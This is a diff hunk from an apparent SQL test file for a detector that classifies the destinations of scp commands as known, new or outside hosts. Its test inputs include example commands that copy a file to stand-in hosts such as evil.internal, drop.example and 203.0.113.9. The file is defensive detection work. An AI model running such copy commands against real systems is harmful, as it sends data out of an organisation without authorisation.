@@ -44,6 +44,9 @@ SELECT a.address, remote_class(a.address, 'web-1.corp.example') FROM unnest('{8.
 -- a name without a domain that the fleet does not know: ssh_config may make it anything, so it is new for the role, once
 CALL pg_temp.tries('2026-11-20 05:00Z', 'web-1.corp.example', 'scp a jump:', 'scp a jump:');
 CALL pg_temp.tries('2026-11-20 05:00Z', 'web-2.corp.example', 'scp a jump:');
+-- nor does a domain that anybody may use make a name known
+CALL pg_temp.tries('2026-11-20 05:00Z', 'web-1.corp.example', 'scp a u@evil.internal:', 'scp a u@evil.internal:', 'scp a u@web-2.internal:');
+CALL pg_temp.tries('2026-11-20 05:00Z', 'web-2.corp.example', 'scp a u@EVIL.internal:', 'scp a u@evil.local:');
 -- outside, for each host
 CALL pg_temp.tries('2026-11-20 06:00Z', 'web-1.corp.example', 'scp a u@drop.example:', 'scp a u@DROP.example:', 'scp a u@203.0.113.9:');
 CALL pg_temp.tries('2026-11-20 06:00Z', 'web-2.corp.example', 'scp a u@drop.example:');
